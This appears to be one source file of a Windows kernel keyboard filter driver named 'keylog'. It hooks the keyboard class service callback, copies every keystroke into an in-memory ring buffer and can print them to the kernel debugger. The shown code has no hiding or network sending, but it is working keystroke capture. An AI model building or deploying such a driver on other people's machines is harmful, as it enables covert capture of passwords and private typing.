//
// device.c - EvtDeviceAdd, connect hook and the class service callback
//
#include "keylog.h"

#ifdef ALLOC_PRAGMA
#pragma alloc_text(PAGE, KlEvtDeviceAdd)
#endif

static ULONG
KlQueryDword(
    _In_ HANDLE Key,
    _In_ PCWSTR Name,
    _In_ ULONG Default
    )
{
    UNICODE_STRING valueName;
    UCHAR buffer[sizeof(KEY_VALUE_PARTIAL_INFORMATION) + sizeof(ULONG)];
    PKEY_VALUE_PARTIAL_INFORMATION info = (PKEY_VALUE_PARTIAL_INFORMATION)buffer;
    ULONG resultLength;
    NTSTATUS status;

    RtlInitUnicodeString(&valueName, Name);
    status = ZwQueryValueKey(Key, &valueName, KeyValuePartialInformation,
                             info, sizeof(buffer), &resultLength);
    if (!NT_SUCCESS(status) || info->Type != REG_DWORD || info->DataLength != sizeof(ULONG)) {
        return Default;
    }
    return *(PULONG)info->Data;
}

//
// read settings from HKLM\...\Services\keylog
//
static VOID
KlLoadConfig(
    _Out_ PKL_CONFIG Config
    )
{
    OBJECT_ATTRIBUTES oa;
    HANDLE key;
    NTSTATUS status;

    Config->LogToDebugger = 0;
    Config->IgnoreBreakCodes = 1;

    if (g_RegistryPath == NULL) {
        return;
    }

    InitializeObjectAttributes(&oa, g_RegistryPath, OBJ_CASE_INSENSITIVE | OBJ_KERNEL_HANDLE, NULL, NULL);
    status = ZwOpenKey(&key, KEY_READ, &oa);
    if (!NT_SUCCESS(status)) {
        KL_PRINT(("KeyLog: can't open service key 0x%x, using defaults\n", status));
        return;
    }

    Config->LogToDebugger    = KlQueryDword(key, L"LogToDebugger", Config->LogToDebugger);
    Config->IgnoreBreakCodes = KlQueryDword(key, L"IgnoreBreakCodes", Config->IgnoreBreakCodes);

    ZwClose(key);
}

NTSTATUS
KlEvtDeviceAdd(
    _In_ WDFDRIVER Driver,
    _Inout_ PWDFDEVICE_INIT DeviceInit
    )
{
    WDF_OBJECT_ATTRIBUTES attributes;
    WDF_IO_QUEUE_CONFIG queueConfig;
    WDFDEVICE device;
    PKL_DEVICE_CONTEXT ctx;
    NTSTATUS status;

    UNREFERENCED_PARAMETER(Driver);
    PAGED_CODE();

    KL_PRINT(("KeyLog: EvtDeviceAdd\n"));

    // we sit between kbdclass and the port driver (i8042prt / kbdhid)
    WdfFdoInitSetFilter(DeviceInit);
    WdfDeviceInitSetDeviceType(DeviceInit, FILE_DEVICE_KEYBOARD);

    WDF_OBJECT_ATTRIBUTES_INIT_CONTEXT_TYPE(&attributes, KL_DEVICE_CONTEXT);

    status = WdfDeviceCreate(&DeviceInit, &attributes, &device);
    if (!NT_SUCCESS(status)) {
        KL_PRINT(("KeyLog: WdfDeviceCreate failed 0x%x\n", status));
        return status;
    }

    ctx = KlGetContext(device);
    ctx->Device = device;
    KlLoadConfig(&ctx->Config);

    // ring lock and ring memory are children of the device -> freed with it
    WDF_OBJECT_ATTRIBUTES_INIT(&attributes);
    attributes.ParentObject = device;
    status = WdfSpinLockCreate(&attributes, &ctx->RingLock);
    if (!NT_SUCCESS(status)) {
        KL_PRINT(("KeyLog: WdfSpinLockCreate failed 0x%x\n", status));
        return status;
    }

    WDF_OBJECT_ATTRIBUTES_INIT(&attributes);
    attributes.ParentObject = device;
    status = WdfMemoryCreate(&attributes,
                             NonPagedPoolNx,
                             KL_TAG,
                             KL_RING_SIZE * sizeof(KEYBOARD_INPUT_DATA),
                             &ctx->RingMemory,
                             (PVOID *)&ctx->Ring);
    if (!NT_SUCCESS(status)) {
        KL_PRINT(("KeyLog: WdfMemoryCreate failed 0x%x\n", status));
        return status;
    }
    RtlZeroMemory(ctx->Ring, KL_RING_SIZE * sizeof(KEYBOARD_INPUT_DATA));

    WDF_IO_QUEUE_CONFIG_INIT_DEFAULT_QUEUE(&queueConfig, WdfIoQueueDispatchParallel);
    queueConfig.EvtIoInternalDeviceControl = KlEvtIoInternalDeviceControl;

    status = WdfIoQueueCreate(device, &queueConfig, WDF_NO_OBJECT_ATTRIBUTES, WDF_NO_HANDLE);
    if (!NT_SUCCESS(status)) {
        KL_PRINT(("KeyLog: WdfIoQueueCreate failed 0x%x\n", status));
        return status;
    }

    return STATUS_SUCCESS;
}

static VOID
KlForwardRequest(
    _In_ WDFREQUEST Request,
    _In_ WDFIOTARGET Target
    )
{
    WDF_REQUEST_SEND_OPTIONS options;
    NTSTATUS status;

    WDF_REQUEST_SEND_OPTIONS_INIT(&options, WDF_REQUEST_SEND_OPTION_SEND_AND_FORGET);

    if (!WdfRequestSend(Request, Target, &options)) {
        status = WdfRequestGetStatus(Request);
        KL_PRINT(("KeyLog: WdfRequestSend failed 0x%x\n", status));
        WdfRequestComplete(Request, status);
    }
}

VOID
KlEvtIoInternalDeviceControl(
    _In_ WDFQUEUE Queue,
    _In_ WDFREQUEST Request,
    _In_ size_t OutputBufferLength,
    _In_ size_t InputBufferLength,
    _In_ ULONG IoControlCode
    )
{
    WDFDEVICE device = WdfIoQueueGetDevice(Queue);
    PKL_DEVICE_CONTEXT ctx = KlGetContext(device);
    PCONNECT_DATA connectData = NULL;
    size_t length;
    NTSTATUS status = STATUS_SUCCESS;

    UNREFERENCED_PARAMETER(OutputBufferLength);
    UNREFERENCED_PARAMETER(InputBufferLength);

    switch (IoControlCode) {

    case IOCTL_INTERNAL_KEYBOARD_CONNECT:
        // only one connect is allowed
        if (ctx->UpperConnectData.ClassService != NULL) {
            status = STATUS_SHARING_VIOLATION;
            break;
        }

        status = WdfRequestRetrieveInputBuffer(Request, sizeof(CONNECT_DATA), (PVOID *)&connectData, &length);
        if (!NT_SUCCESS(status)) {
            break;
        }

        // remember the class driver and put ourselves in between
        ctx->UpperConnectData = *connectData;
        connectData->ClassDeviceObject = WdfDeviceWdmGetDeviceObject(device);

#pragma warning(push)
#pragma warning(disable:4152)   // function/data pointer conversion
        connectData->ClassService = KlServiceCallback;
#pragma warning(pop)
        break;

    case IOCTL_INTERNAL_KEYBOARD_DISCONNECT:
        // same as kbfiltr: not supported
        status = STATUS_NOT_IMPLEMENTED;
        break;

    default:
        break;
    }

    if (!NT_SUCCESS(status)) {
        WdfRequestComplete(Request, status);
        return;
    }

    KlForwardRequest(Request, WdfDeviceGetIoTarget(device));
}

VOID
KlServiceCallback(
    _In_ PDEVICE_OBJECT DeviceObject,
    _In_ PKEYBOARD_INPUT_DATA InputDataStart,
    _In_ PKEYBOARD_INPUT_DATA InputDataEnd,
    _Inout_ PULONG InputDataConsumed
    )
{
    WDFDEVICE device = WdfWdmDeviceGetWdfDeviceHandle(DeviceObject);
    PKL_DEVICE_CONTEXT ctx = KlGetContext(device);
    PKEYBOARD_INPUT_DATA p;

    WdfSpinLockAcquire(ctx->RingLock);
    for (p = InputDataStart; p < InputDataEnd; p++) {

        if (ctx->Config.IgnoreBreakCodes && (p->Flags & KEY_BREAK)) {
            continue;
        }

        ctx->Ring[ctx->RingHead] = *p;
        ctx->RingHead = (ctx->RingHead + 1) % KL_RING_SIZE;
        if (ctx->RingCount < KL_RING_SIZE) {
            ctx->RingCount++;
        }

        if (ctx->Config.LogToDebugger) {
            KL_PRINT(("KeyLog: unit %u make 0x%02x flags 0x%x\n", p->UnitId, p->MakeCode, p->Flags));
        }
    }
    WdfSpinLockRelease(ctx->RingLock);

    // hand everything to kbdclass
    (*(PSERVICE_CALLBACK_ROUTINE)(ULONG_PTR)ctx->UpperConnectData.ClassService)(
        ctx->UpperConnectData.ClassDeviceObject,
        InputDataStart,
        InputDataEnd,
        InputDataConsumed);
}
